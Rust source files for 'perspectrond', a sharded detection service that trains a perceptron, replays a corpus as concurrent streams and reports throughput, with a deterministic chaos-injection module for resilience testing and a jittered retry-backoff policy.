                self.pending.push(PendingWindow {
                    stream,
                    at_inst,
                    degraded,
                    submitted,
                });
            }
            Msg::Drain(ack) => {
                // Everything submitted before the drain is already in the
                // queue ahead of it (per-queue FIFO): sweep, then ack.
                self.sweep();
                let _ = ack.send(());
            }
        }
    }

    /// Scores the current batch in one `score_rows` sweep and closes
    /// every pending window against its session.
    fn sweep(&mut self) {
        if self.pending.is_empty() {
            return;
        }
        if !self.sweep_stall.is_zero() {
            std::thread::sleep(self.sweep_stall);
        }
        self.engine.score_rows(&self.batch, &mut self.scores);
        debug_assert_eq!(self.scores.len(), self.pending.len());
        let scored_at = Instant::now();
        self.max_coalesced = self.max_coalesced.max(self.pending.len());
        self.windows += self.pending.len() as u64;
        self.sweeps += 1;
        for (pw, &raw) in self.pending.drain(..).zip(self.scores.iter()) {
            let session = self
                .sessions
                .get_mut(&pw.stream)
                .expect("pending window belongs to an open session");
            session.close_window(&self.detector, pw.at_inst, pw.degraded, raw);
            let us = scored_at.duration_since(pw.submitted).as_micros();
            self.latencies_us
                .push(u32::try_from(us).unwrap_or(u32::MAX));
        }
        self.batch.clear();
    }

    fn run(mut self, rx: Receiver<Msg>) -> ShardReport {
        // Block for the first message of a burst, then coalesce whatever
        // else is already queued — up to one batch — into the same sweep.
        while let Ok(msg) = rx.recv() {
            self.handle(msg);
            loop {
                if self.pending.len() >= self.batch_windows {
                    self.sweep();
                }
                match rx.try_recv() {
                    Ok(m) => self.handle(m),
                    Err(_) => break,
                }
            }
            self.sweep();
        }
        // Channel disconnected: score any straggler batch and report.
        self.sweep();
        let mut streams: Vec<StreamOutcome> = self
            .sessions
            .into_iter()
            .map(|(stream, session)| StreamOutcome {
                stream,
                state: session.state(),
                degraded_windows: session.degraded_windows(),
                verdicts: session.into_verdicts(),
            })
            .collect();
        streams.sort_by_key(|s| s.stream);
        ShardReport {
            windows: self.windows,
            sweeps: self.sweeps,
            max_coalesced: self.max_coalesced,
            latencies_us: self.latencies_us,
            streams,
        }
    }
}

/// A running detection service. Constructed by [`Perspectrond::start`];
/// torn down (and its results collected) by [`Perspectrond::shutdown`].
#[derive(Debug)]
pub struct Perspectrond {
    submitter: Submitter,
    joins: Vec<JoinHandle<ShardReport>>,
}

impl Perspectrond {
    /// Spawns the shard workers and returns the running service. The
    /// detector is cloned once and shared read-only across shards.
    pub fn start(detector: &PerSpectron, config: ServiceConfig) -> Self {
        let shards = config.shards.max(1);
        let detector = Arc::new(detector.clone());
        let mut txs = Vec::with_capacity(shards);
        let mut joins = Vec::with_capacity(shards);
        for id in 0..shards {
            let (tx, rx) = sync_channel(config.queue_depth.max(1));
            let worker = ShardWorker::new(Arc::clone(&detector), &config);
            let join = std::thread::Builder::new()
                .name(format!("perspectrond-shard{id}"))
                .spawn(move || worker.run(rx))
                .expect("spawn shard worker");
            txs.push(tx);
            joins.push(join);
        }
        Self {
            submitter: Submitter {
                txs: txs.into(),
                busy: Arc::new(AtomicU64::new(0)),
            },
            joins,
        }
    }

    /// Worker threads the service runs with.
    pub fn shards(&self) -> usize {
        self.joins.len()
    }

    /// A cloneable submission handle for producer threads.
    pub fn submitter(&self) -> Submitter {
        self.submitter.clone()
    }

    /// Blocks until every shard has scored everything submitted before
    /// this call — a verdict barrier (partial batches are swept, not
    /// awaited).
    pub fn drain(&self) {
        let mut acks = Vec::with_capacity(self.joins.len());
        for tx in self.submitter.txs.iter() {
            let (ack_tx, ack_rx) = sync_channel(1);
            if tx.send(Msg::Drain(ack_tx)).is_ok() {
                acks.push(ack_rx);
            }
        }
        for ack in acks {
            let _ = ack.recv();
        }
    }

    /// Stops accepting work, waits for the shards to score every queued
    /// window, and returns the merged report.
    ///
    /// All [`Submitter`] clones must already be dropped — shards exit on
    /// queue disconnect, so a live clone elsewhere keeps them (and this
    /// call) waiting.
    pub fn shutdown(self) -> ServiceReport {
        let busy = self.submitter.busy_rejections();
        let shards = self.joins.len();
        drop(self.submitter);
        let mut report = ServiceReport {
            shards,
            windows_scored: 0,
            sweeps: 0,
            max_coalesced: 0,
            busy_rejections: busy,
            latencies_us: Vec::new(),
            streams: Vec::new(),
        };
        for join in self.joins {
            let shard = join.join().expect("shard worker panicked");
            report.windows_scored += shard.windows;
            report.sweeps += shard.sweeps;
            report.max_coalesced = report.max_coalesced.max(shard.max_coalesced);
            report.latencies_us.extend(shard.latencies_us);
            report.streams.extend(shard.streams);
        }
        report.latencies_us.sort_unstable();
        report.streams.sort_by_key(|s| s.stream);
        report
    }
}
