//! Deterministic chaos injection for the sharded service.
//!
//! A [`ChaosSpec`] is to the service tier what a
//! [`FaultSpec`](perspectron::FaultSpec) is to the sensor tier: a seeded,
//! byte-reproducible description of what goes wrong — but here the
//! victims are the *service's own moving parts*, not the telemetry. Four
//! chaos families are injected at precisely chosen points inside the
//! shard workers:
//!
//! - **Worker panics** ([`PanicAt`]) — the worker of one shard panics at
//!   the start of its Nth scoring sweep, before any row is scored. The
//!   injection point is deliberately *clean*: the batch and every session
//!   are intact when the unwind starts, so the supervisor can carry the
//!   in-flight windows across the respawn and lose nothing.
//! - **Queue-drain stalls** ([`StallAt`]) — the worker sleeps inside a
//!   sweep without heartbeating, exactly what a wedged dependency looks
//!   like to the watchdog.
//! - **Slow-consumer jitter** — a per-sweep random extra delay drawn from
//!   the shard's chaos stream, turning steady consumers into laggy ones
//!   so backpressure and retry policies are exercised under load.
//! - **Poisoned windows** ([`PoisonPill`] and NaN storms) — a pill kills
//!   the worker the moment the marked window is received (the one chaos
//!   that genuinely loses a window: the supervisor must quarantine that
//!   stream, and only that stream); a NaN storm corrupts a deterministic
//!   subset of a window's values in place, flowing through the PR 5
//!   sanitize/Degraded path and, at fleet scale, the sticky quarantine.
//!
//! # Determinism
//!
//! Worker-level events (panics, stalls, jitter) draw from a stream keyed
//! by `(chaos seed, shard)`; window-level events (pills, storms) are
//! *stateless* draws keyed by `(chaos seed, stream id, window index)`.
//! The split is what makes chaos byte-reproducible at any shard count:
//! re-sharding moves streams between workers, but which windows are
//! stormed or pilled never changes, and per-stream FIFO order makes the
//! window index itself arrival-deterministic.

use std::sync::Arc;
use std::time::Duration;

use perspectron::faults::{mix, XorShift64};

/// Panic one shard's worker at the start of its `sweep`-th scoring sweep
/// (1-based). Fires once.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PanicAt {
    /// The shard whose worker panics.
    pub shard: usize,
    /// The 1-based sweep number the panic triggers at.
    pub sweep: u64,
}

/// Stall one shard's worker (no heartbeats) at the start of its
/// `sweep`-th scoring sweep — watchdog bait. Fires once.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct StallAt {
    /// The shard whose worker stalls.
    pub shard: usize,
    /// The 1-based sweep number the stall triggers at.
    pub sweep: u64,
    /// How long the worker goes dark.
    pub stall: Duration,
}

/// Kill the worker the moment window `window` (0-based, per-stream) of
/// `stream` is received — before the window is opened or batched. The
/// window is lost; the supervisor must account for it. Fires once.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PoisonPill {
    /// The stream whose window is poisoned.
    pub stream: u64,
    /// The 0-based per-stream window index of the poisoned window.
    pub window: usize,
}

/// A seeded description of service-tier chaos. [`ChaosSpec::quiet`] (the
/// [`ServiceConfig`](crate::service::ServiceConfig) default) injects
/// nothing and adds no per-window work.
#[derive(Debug, Clone, PartialEq)]
pub struct ChaosSpec {
    /// Seed of every chaos stream in this plan.
    pub seed: u64,
    /// Scheduled worker panics.
    pub panics: Vec<PanicAt>,
    /// Scheduled worker stalls (wedge emulation).
    pub stalls: Vec<StallAt>,
    /// Scheduled poisoned windows.
    pub pills: Vec<PoisonPill>,
    /// Probability, per window, that the window is NaN-stormed (keyed by
    /// `(seed, stream, window index)` — shard-count invariant).
    pub storm_chance: f64,
    /// Fraction of a stormed window's values overwritten with NaN
    /// (at least one).
    pub storm_frac: f64,
    /// Probability, per sweep, of slow-consumer jitter (keyed by
    /// `(seed, shard)`).
    pub jitter_chance: f64,
    /// Maximum jitter delay per affected sweep.
    pub jitter_max: Duration,
}

impl ChaosSpec {
    /// The quiet spec: no chaos at all, zero overhead in the workers.
    pub fn quiet() -> Self {
        Self {
            seed: 0,
            panics: Vec::new(),
            stalls: Vec::new(),
            pills: Vec::new(),
            storm_chance: 0.0,
            storm_frac: 0.0,
            jitter_chance: 0.0,
            jitter_max: Duration::ZERO,
        }
    }

    /// Whether this spec injects nothing.
    pub fn is_quiet(&self) -> bool {
        self.panics.is_empty()
            && self.stalls.is_empty()
            && self.pills.is_empty()
            && self.storm_chance <= 0.0
            && self.jitter_chance <= 0.0
    }
}

impl Default for ChaosSpec {
    fn default() -> Self {
        Self::quiet()
    }
}

/// Salt decorrelating window-level storm draws from everything else.
const STORM_SALT: u64 = 0x5707_12a9_c0ff_ee00;

/// One shard worker's runtime view of the plan: the shard-keyed jitter
/// stream plus fired-once memory for panics, stalls and pills.
///
/// Lives in the worker's *durable* state — it survives the unwind of an
/// injected panic — which is how "fires once" is enforced: every
/// scheduled event marks itself fired *before* it detonates, so the
/// respawned worker retries the interrupted work instead of dying in a
/// crash loop.
#[derive(Debug, Clone)]
pub(crate) struct ShardChaos {
    spec: Arc<ChaosSpec>,
    shard: usize,
    rng: XorShift64,
    panics_fired: Vec<bool>,
    stalls_fired: Vec<bool>,
    pills_fired: Vec<bool>,
}

impl ShardChaos {
    pub(crate) fn new(spec: Arc<ChaosSpec>, shard: usize) -> Self {
        Self {
            rng: XorShift64::new(mix(spec.seed ^ (shard as u64).wrapping_mul(0x9e37))),
            panics_fired: vec![false; spec.panics.len()],
            stalls_fired: vec![false; spec.stalls.len()],
            pills_fired: vec![false; spec.pills.len()],
            spec,
            shard,
        }
    }

    /// Runs the sweep-scoped chaos due at 1-based sweep `sweep_no`:
    /// stalls first (the worker goes dark), then jitter, then any
    /// scheduled panic. Called at the top of the worker's sweep, before
    /// anything is scored, so an unwind here leaves the batch intact.
    pub(crate) fn before_sweep(&mut self, sweep_no: u64) {
        if self.spec.is_quiet() {
            return;
        }
        for (i, s) in self.spec.stalls.iter().enumerate() {
            if !self.stalls_fired[i] && s.shard == self.shard && sweep_no >= s.sweep {
                self.stalls_fired[i] = true;
                std::thread::sleep(s.stall);
            }
        }
        if self.spec.jitter_chance > 0.0 && self.rng.chance(self.spec.jitter_chance) {
            let frac = self.rng.unit();
            if !self.spec.jitter_max.is_zero() {
                std::thread::sleep(self.spec.jitter_max.mul_f64(frac));
            }
        }
        for (i, p) in self.spec.panics.iter().enumerate() {
            if !self.panics_fired[i] && p.shard == self.shard && sweep_no >= p.sweep {
                self.panics_fired[i] = true;
                panic!(
                    "chaos: injected worker panic (shard {}, sweep {})",
                    self.shard, p.sweep
                );
            }
        }
    }

    /// Detonates any unfired pill scheduled for `(stream, window)`. The
    /// caller invokes this at message receipt, before the session is
    /// touched, so recovery sees a consistent shard.
    pub(crate) fn pill(&mut self, stream: u64, window: usize) {
        if self.spec.pills.is_empty() {
            return;
        }
        for (i, p) in self.spec.pills.iter().enumerate() {
            if !self.pills_fired[i] && p.stream == stream && p.window == window {
                self.pills_fired[i] = true;
                panic!("chaos: poison pill (stream {stream}, window {window})");
            }
        }
    }

    /// Applies any NaN storm due for `(stream, window)` to `row` in
    /// place. Stateless draw — same `(seed, stream, window)`, same storm,
    /// at any shard count. Returns the number of values overwritten
    /// (zero when the window is spared).
    pub(crate) fn storm(&self, stream: u64, window: usize, row: &mut [f64]) -> usize {
        if self.spec.storm_chance <= 0.0 || row.is_empty() {
            return 0;
        }
        let mut rng = XorShift64::new(mix(
            mix(self.spec.seed ^ STORM_SALT ^ stream) ^ (window as u64)
        ));
        if !rng.chance(self.spec.storm_chance) {
            return 0;
        }
        let n = ((row.len() as f64 * self.spec.storm_frac).ceil() as usize).clamp(1, row.len());
        for _ in 0..n {
            let i = (rng.next() % row.len() as u64) as usize;
            row[i] = f64::NAN;
        }
        n
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn storms_are_stateless_and_shard_count_invariant() {
        let spec = Arc::new(ChaosSpec {
            seed: 42,
            storm_chance: 0.5,
            storm_frac: 0.25,
            ..ChaosSpec::quiet()
        });
        // Two different shards must storm exactly the same windows with
        // exactly the same corruption pattern.
        let a = ShardChaos::new(Arc::clone(&spec), 0);
        let b = ShardChaos::new(Arc::clone(&spec), 3);
        let mut stormed = 0;
        for stream in 0..16u64 {
            for window in 0..8usize {
                let mut ra: Vec<f64> = (0..32).map(|i| i as f64).collect();
                let mut rb = ra.clone();
                let na = a.storm(stream, window, &mut ra);
                let nb = b.storm(stream, window, &mut rb);
                assert_eq!(na, nb);
                assert_eq!(
                    ra.iter().map(|v| v.to_bits()).collect::<Vec<_>>(),
                    rb.iter().map(|v| v.to_bits()).collect::<Vec<_>>(),
                    "storm pattern must not depend on the shard"
                );
                if na > 0 {
                    stormed += 1;
                    assert!(ra.iter().any(|v| v.is_nan()));
                }
            }
        }
        assert!(stormed > 10, "≈half the 128 windows should storm");
        assert!(stormed < 118);
    }

    #[test]
    fn pills_fire_exactly_once() {
        let spec = Arc::new(ChaosSpec {
            seed: 1,
            pills: vec![PoisonPill {
                stream: 9,
                window: 2,
            }],
            ..ChaosSpec::quiet()
        });
        let mut c = ShardChaos::new(spec, 0);
        c.pill(9, 1); // not the marked window
        let boom = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| c.pill(9, 2)));
        assert!(boom.is_err(), "the marked window must detonate");
        // The same (stream, window) arriving again — e.g. the retransmit
        // after the lost window — passes through.
        c.pill(9, 2);
    }

    #[test]
    fn scheduled_panics_fire_once_at_their_sweep() {
        let spec = Arc::new(ChaosSpec {
            seed: 1,
            panics: vec![PanicAt { shard: 1, sweep: 3 }],
            ..ChaosSpec::quiet()
        });
        let mut other = ShardChaos::new(Arc::clone(&spec), 0);
        other.before_sweep(3); // wrong shard: nothing
        let mut c = ShardChaos::new(spec, 1);
        c.before_sweep(1);
        c.before_sweep(2);
        let boom = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| c.before_sweep(3)));
        assert!(boom.is_err());
        // The respawned worker retries sweep 3: the event is spent.
        c.before_sweep(3);
        c.before_sweep(4);
    }
}
