//! `perspectrond` — train, serve, replay, report.
//!
//! Self-contained demonstration of the online detection service: collects
//! a training corpus on the simulator, trains the perceptron, writes the
//! corpus to the mmap-able columnar format, then replays it as thousands
//! of concurrent streams against the sharded service and prints the
//! operational report.
//!
//! ```text
//! perspectrond [--streams N] [--shards N] [--clients N] [--queue-depth N]
//!              [--corpus PATH] [--fault-plan PRESET[:SEED]] [--chaos SEED]
//! ```
//!
//! `--corpus` reuses (or creates) a corpus file instead of a temp file,
//! so repeated runs skip nothing but the simulator. Set
//! `PERSPECTRON_QUICK=1` for a smaller training corpus.
//!
//! `--fault-plan` replays a *faulted* copy of the corpus — the clean
//! corpus is trained on, then re-faulted in memory through the seeded
//! sensor-fault plan (`perspectron::FaultPlan::fault_corpus`, byte-identical
//! to collect-time injection) and replayed at fleet scale, exercising the
//! degraded/quarantine machinery across every stream. Presets: `quiet`,
//! `light` (5% component dropout, 1% value corruption), `heavy` (30%
//! dropout, 5% corruption); append `:SEED` to change the seed (default 7).
//!
//! `--chaos SEED` arms the service-tier chaos plan: a worker panic
//! mid-run (exercising supervised respawn), NaN storms on ~2% of windows,
//! and slow-consumer jitter — all deterministic from the seed.

use std::time::Instant;

use perspectron::corpus_io::{self, CorpusReader};
use perspectron::{CorpusSpec, FaultPlan, FaultSpec, PerSpectron};
use perspectron_serviced::{
    replay_clients, ChaosSpec, PanicAt, Perspectrond, ReplayConfig, ServiceConfig,
};

struct Args {
    streams: usize,
    shards: usize,
    clients: usize,
    queue_depth: usize,
    corpus: Option<String>,
    fault_plan: Option<(String, u64)>,
    chaos: Option<u64>,
}

fn parse_fault_plan(arg: &str) -> (String, u64) {
    match arg.split_once(':') {
        Some((preset, seed)) => (
            preset.to_string(),
            seed.parse().expect("--fault-plan seed: u64"),
        ),
        None => (arg.to_string(), 7),
    }
}

fn fault_spec(preset: &str, seed: u64) -> FaultSpec {
    match preset {
        "quiet" => FaultSpec {
            seed,
            ..FaultSpec::none()
        },
        "light" => FaultSpec {
            seed,
            component_dropout: 0.05,
            corruption: 0.01,
            ..FaultSpec::none()
        },
        "heavy" => FaultSpec {
            seed,
            component_dropout: 0.30,
            corruption: 0.05,
            ..FaultSpec::none()
        },
        other => panic!("unknown fault preset {other} (quiet|light|heavy)"),
    }
}

fn chaos_spec(seed: u64, shards: usize) -> ChaosSpec {
    ChaosSpec {
        seed,
        // One mid-run worker crash on a seed-chosen shard: the supervisor
        // must respawn it with zero lost windows.
        panics: vec![PanicAt {
            shard: (seed as usize) % shards.max(1),
            sweep: 3,
        }],
        storm_chance: 0.02,
        storm_frac: 0.10,
        jitter_chance: 0.05,
        jitter_max: std::time::Duration::from_micros(200),
        ..ChaosSpec::quiet()
    }
}

fn parse_args() -> Args {
    let mut args = Args {
        streams: 1024,
        shards: std::thread::available_parallelism().map_or(1, |n| n.get()),
        clients: 4,
        queue_depth: 256,
        corpus: None,
        fault_plan: None,
        chaos: None,
    };
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        let mut value = |name: &str| {
            it.next()
                .unwrap_or_else(|| panic!("{name} requires a value"))
        };
        match flag.as_str() {
            "--streams" => args.streams = value("--streams").parse().expect("--streams: usize"),
            "--shards" => args.shards = value("--shards").parse().expect("--shards: usize"),
            "--clients" => args.clients = value("--clients").parse().expect("--clients: usize"),
            "--queue-depth" => {
                args.queue_depth = value("--queue-depth")
                    .parse()
                    .expect("--queue-depth: usize")
            }
            "--corpus" => args.corpus = Some(value("--corpus")),
            "--fault-plan" => args.fault_plan = Some(parse_fault_plan(&value("--fault-plan"))),
            "--chaos" => args.chaos = Some(value("--chaos").parse().expect("--chaos: u64")),
            "--help" | "-h" => {
                println!(
                    "perspectrond [--streams N] [--shards N] [--clients N] \
                     [--queue-depth N] [--corpus PATH] \
                     [--fault-plan quiet|light|heavy[:SEED]] [--chaos SEED]"
                );
                std::process::exit(0);
            }
            other => panic!("unknown flag {other} (try --help)"),
        }
    }
    args
}

fn main() {
    let args = parse_args();

    // 1. A corpus to train on and replay: reuse the file when given and
    // present, otherwise collect on the simulator and write it out.
    let path = args.corpus.clone().unwrap_or_else(|| {
        std::env::temp_dir()
            .join(format!("perspectrond_{}.pspc", std::process::id()))
            .to_string_lossy()
            .into_owned()
    });
    let reader = match CorpusReader::open(&path) {
        Ok(r) => {
            eprintln!("corpus: reusing {path} ({} traces)", r.n_traces());
            r
        }
        Err(_) => {
            eprintln!("corpus: collecting on the simulator…");
            let spec = if std::env::var("PERSPECTRON_QUICK").is_ok() {
                CorpusSpec::quick()
            } else {
                CorpusSpec::quick().with_insts(300_000)
            };
            let collected = spec.collect();
            corpus_io::write_corpus(&path, &collected).expect("write corpus");
            eprintln!(
                "corpus: wrote {} traces to {path} (mmap: columnar, checksummed)",
                collected.traces.len()
            );
            CorpusReader::open(&path).expect("reopen corpus")
        }
    };

    // 2. Train the detector on the clean (materialized) corpus.
    eprintln!("train: perceptron over the selected invariant features…");
    let corpus = reader.load_all().expect("load corpus");
    let detector = PerSpectron::train(&corpus, 42);

    // 2b. Optionally re-fault the clean corpus through the seeded sensor
    // fault plan and replay *that* — the detector stays trained on clean
    // data, so the replay exercises degraded scoring and quarantine.
    let mut faulted_path: Option<String> = None;
    let replay_reader = match &args.fault_plan {
        None => reader,
        Some((preset, seed)) => {
            let spec = fault_spec(preset, *seed);
            eprintln!(
                "faults: re-faulting corpus with preset {preset} (seed {seed}, \
                 dropout {:.0}%, corruption {:.0}%)",
                spec.component_dropout * 100.0,
                spec.corruption * 100.0
            );
            let plan = FaultPlan::new(spec, corpus.schema());
            let faulted = plan.fault_corpus(&corpus);
            let fpath = format!("{path}.faulted");
            corpus_io::write_corpus(&fpath, &faulted).expect("write faulted corpus");
            let r = CorpusReader::open(&fpath).expect("reopen faulted corpus");
            faulted_path = Some(fpath);
            r
        }
    };

    // 3. Serve and replay.
    let mut config = ServiceConfig {
        shards: args.shards,
        queue_depth: args.queue_depth,
        ..ServiceConfig::default()
    };
    if let Some(seed) = args.chaos {
        config.chaos = chaos_spec(seed, config.shards);
        eprintln!("chaos: armed (seed {seed}): worker panic, NaN storms, jitter");
    }
    eprintln!(
        "serve: {} shards, queue depth {}, batch {} windows",
        config.shards.max(1),
        config.queue_depth,
        config.batch_windows
    );
    let service = Perspectrond::start(&detector, config);
    let submitter = service.submitter();
    let replay = ReplayConfig {
        streams: args.streams,
        client_threads: args.clients,
        ..ReplayConfig::default()
    };
    let started = Instant::now();
    let outcome = replay_clients(&replay_reader, &submitter, &replay);
    drop(submitter);
    let report = match service.shutdown() {
        Ok(r) => r,
        Err(e) => panic!("service failed to shut down cleanly: {e}"),
    };
    let elapsed = started.elapsed();

    // 4. Report.
    let windows_per_sec = report.windows_scored as f64 / elapsed.as_secs_f64();
    let suspicious_streams = report
        .streams
        .iter()
        .filter(|s| s.verdicts.iter().any(|v| v.suspicious))
        .count();
    let degraded_streams = report
        .streams
        .iter()
        .filter(|s| s.degraded_windows > 0)
        .count();
    println!("perspectrond report");
    println!("  streams              {}", outcome.streams);
    println!("  shards               {}", report.shards);
    println!("  windows scored       {}", report.windows_scored);
    println!(
        "  sweeps               {} (max coalesced {})",
        report.sweeps, report.max_coalesced
    );
    println!(
        "  busy retries         {} ({} shed)",
        outcome.busy_retries, report.shed
    );
    println!(
        "  worker restarts      {} (lost windows {}, storms {})",
        report.restarts.len(),
        report.lost_windows(),
        report.storms
    );
    println!(
        "  latency p50 / p99    {} us / {} us",
        report.p50_us(),
        report.p99_us()
    );
    println!("  aggregate throughput {windows_per_sec:.0} windows/s");
    println!("  suspicious streams   {suspicious_streams}");
    println!("  degraded streams     {degraded_streams}");
    println!(
        "  quarantined streams  {}",
        report.quarantined_streams().count()
    );
    if args.corpus.is_none() {
        std::fs::remove_file(&path).ok();
    }
    if let Some(fpath) = faulted_path {
        std::fs::remove_file(&fpath).ok();
    }
}
