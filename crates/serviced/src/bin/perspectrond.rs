//! `perspectrond` — train, serve, replay, report.
//!
//! Self-contained demonstration of the online detection service: collects
//! a training corpus on the simulator, trains the perceptron, writes the
//! corpus to the mmap-able columnar format, then replays it as thousands
//! of concurrent streams against the sharded service and prints the
//! operational report.
//!
//! ```text
//! perspectrond [--streams N] [--shards N] [--clients N] [--queue-depth N] [--corpus PATH]
//! ```
//!
//! `--corpus` reuses (or creates) a corpus file instead of a temp file,
//! so repeated runs skip nothing but the simulator. Set
//! `PERSPECTRON_QUICK=1` for a smaller training corpus.

use std::time::Instant;

use perspectron::corpus_io::{self, CorpusReader};
use perspectron::{CorpusSpec, PerSpectron};
use perspectron_serviced::{replay_clients, Perspectrond, ReplayConfig, ServiceConfig};

struct Args {
    streams: usize,
    shards: usize,
    clients: usize,
    queue_depth: usize,
    corpus: Option<String>,
}

fn parse_args() -> Args {
    let mut args = Args {
        streams: 1024,
        shards: std::thread::available_parallelism().map_or(1, |n| n.get()),
        clients: 4,
        queue_depth: 256,
        corpus: None,
    };
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        let mut value = |name: &str| {
            it.next()
                .unwrap_or_else(|| panic!("{name} requires a value"))
        };
        match flag.as_str() {
            "--streams" => args.streams = value("--streams").parse().expect("--streams: usize"),
            "--shards" => args.shards = value("--shards").parse().expect("--shards: usize"),
            "--clients" => args.clients = value("--clients").parse().expect("--clients: usize"),
            "--queue-depth" => {
                args.queue_depth = value("--queue-depth")
                    .parse()
                    .expect("--queue-depth: usize")
            }
            "--corpus" => args.corpus = Some(value("--corpus")),
            "--help" | "-h" => {
                println!(
                    "perspectrond [--streams N] [--shards N] [--clients N] \
                     [--queue-depth N] [--corpus PATH]"
                );
                std::process::exit(0);
            }
            other => panic!("unknown flag {other} (try --help)"),
        }
    }
    args
}

fn main() {
    let args = parse_args();

    // 1. A corpus to train on and replay: reuse the file when given and
    // present, otherwise collect on the simulator and write it out.
    let path = args.corpus.clone().unwrap_or_else(|| {
        std::env::temp_dir()
            .join(format!("perspectrond_{}.pspc", std::process::id()))
            .to_string_lossy()
            .into_owned()
    });
    let reader = match CorpusReader::open(&path) {
        Ok(r) => {
            eprintln!("corpus: reusing {path} ({} traces)", r.n_traces());
            r
        }
        Err(_) => {
            eprintln!("corpus: collecting on the simulator…");
            let spec = if std::env::var("PERSPECTRON_QUICK").is_ok() {
                CorpusSpec::quick()
            } else {
                CorpusSpec::quick().with_insts(300_000)
            };
            let collected = spec.collect();
            corpus_io::write_corpus(&path, &collected).expect("write corpus");
            eprintln!(
                "corpus: wrote {} traces to {path} (mmap: columnar, checksummed)",
                collected.traces.len()
            );
            CorpusReader::open(&path).expect("reopen corpus")
        }
    };

    // 2. Train the detector on the (materialized) corpus.
    eprintln!("train: perceptron over the selected invariant features…");
    let corpus = reader.load_all().expect("load corpus");
    let detector = PerSpectron::train(&corpus, 42);

    // 3. Serve and replay.
    let config = ServiceConfig {
        shards: args.shards,
        queue_depth: args.queue_depth,
        ..ServiceConfig::default()
    };
    eprintln!(
        "serve: {} shards, queue depth {}, batch {} windows",
        config.shards.max(1),
        config.queue_depth,
        config.batch_windows
    );
    let service = Perspectrond::start(&detector, config);
    let submitter = service.submitter();
    let replay = ReplayConfig {
        streams: args.streams,
        client_threads: args.clients,
        ..ReplayConfig::default()
    };
    let started = Instant::now();
    let outcome = replay_clients(&reader, &submitter, &replay);
    drop(submitter);
    let report = service.shutdown();
    let elapsed = started.elapsed();

    // 4. Report.
    let windows_per_sec = report.windows_scored as f64 / elapsed.as_secs_f64();
    let suspicious_streams = report
        .streams
        .iter()
        .filter(|s| s.verdicts.iter().any(|v| v.suspicious))
        .count();
    println!("perspectrond report");
    println!("  streams              {}", outcome.streams);
    println!("  shards               {}", report.shards);
    println!("  windows scored       {}", report.windows_scored);
    println!(
        "  sweeps               {} (max coalesced {})",
        report.sweeps, report.max_coalesced
    );
    println!("  busy retries         {}", outcome.busy_retries);
    println!(
        "  latency p50 / p99    {} us / {} us",
        report.p50_us(),
        report.p99_us()
    );
    println!("  aggregate throughput {windows_per_sec:.0} windows/s");
    println!("  suspicious streams   {suspicious_streams}");
    println!(
        "  quarantined streams  {}",
        report.quarantined_streams().count()
    );
    if args.corpus.is_none() {
        std::fs::remove_file(&path).ok();
    }
}
