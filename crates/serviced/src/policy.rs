//! Submit-side fault tolerance: a [`SubmitPolicy`] bundles the deadline,
//! bounded-retry and backoff decisions that every producer used to make
//! ad hoc around [`SubmitError::Busy`](crate::service::SubmitError::Busy).
//!
//! The backoff is *deterministically jittered*: sleep durations come from
//! an xorshift64* stream keyed by `(policy seed, stream id, attempt)` —
//! the same generator family (and the same splitmix decorrelator) the
//! fault plans in [`perspectron::faults`] use — so the retry schedule of
//! any stream is byte-reproducible from the seed alone. Two producers
//! retrying different streams against the same hot shard desynchronize
//! instead of thundering in lockstep, and a replayed incident backs off
//! exactly the way the original did.

use std::time::Duration;

use perspectron::faults::{mix, XorShift64};

/// How a submission behaves when its shard pushes back.
///
/// Used by [`Submitter::submit_with_policy`](crate::service::Submitter::submit_with_policy)
/// (bounded retries, then a typed
/// [`SubmitError::Deadline`](crate::service::SubmitError::Deadline)) and by
/// the blocking [`Submitter::submit`](crate::service::Submitter::submit),
/// which retries without the attempt bound but honors the same deadline —
/// a wedged shard can no longer hold a producer hostage forever.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct SubmitPolicy {
    /// Total wall budget for one window's submission, retries included.
    pub deadline: Duration,
    /// `Busy` retries before giving up (the policy path only; the
    /// blocking path is bounded by `deadline` alone).
    pub max_retries: u32,
    /// First backoff; doubles each retry up to [`SubmitPolicy::max_backoff`].
    pub base_backoff: Duration,
    /// Ceiling on a single backoff sleep (pre-jitter).
    pub max_backoff: Duration,
    /// Seed of the jitter streams, decorrelated per `(stream, attempt)`.
    pub seed: u64,
}

impl Default for SubmitPolicy {
    fn default() -> Self {
        Self {
            deadline: Duration::from_secs(5),
            max_retries: 256,
            base_backoff: Duration::from_micros(50),
            max_backoff: Duration::from_millis(5),
            seed: 0x5eed_cafe,
        }
    }
}

impl SubmitPolicy {
    /// A patient policy for load generators and migrations: a long
    /// deadline and effectively unbounded retries, so transient
    /// backpressure is absorbed rather than shed. Only a genuinely wedged
    /// service (no drain for a minute) sheds under this policy.
    pub fn patient() -> Self {
        Self {
            deadline: Duration::from_secs(60),
            max_retries: u32::MAX,
            base_backoff: Duration::from_micros(20),
            max_backoff: Duration::from_millis(2),
            seed: 0x5eed_cafe,
        }
    }

    /// The backoff to sleep before retry `attempt` (0-based) of a window
    /// for `stream`: exponential from [`SubmitPolicy::base_backoff`],
    /// capped at [`SubmitPolicy::max_backoff`], then jittered by a factor
    /// in `[0.5, 1.5)` drawn from the `(seed, stream, attempt)` xorshift
    /// stream. Pure — same inputs, same duration, on any host.
    pub fn backoff(&self, stream: u64, attempt: u32) -> Duration {
        let doublings = attempt.min(20);
        let nominal = self
            .base_backoff
            .saturating_mul(1u32 << doublings.min(20))
            .min(self.max_backoff);
        let mut rng = XorShift64::new(mix(mix(self.seed ^ stream) ^ u64::from(attempt)));
        let factor = 0.5 + rng.unit();
        nominal.mul_f64(factor)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn backoff_is_deterministic_jittered_and_capped() {
        let p = SubmitPolicy::default();
        for stream in [0u64, 7, 1 << 40] {
            for attempt in 0..12 {
                let a = p.backoff(stream, attempt);
                let b = p.backoff(stream, attempt);
                assert_eq!(a, b, "backoff must be a pure function");
                // Jitter keeps every sleep within [0.5, 1.5)× the nominal
                // exponential, which is itself capped.
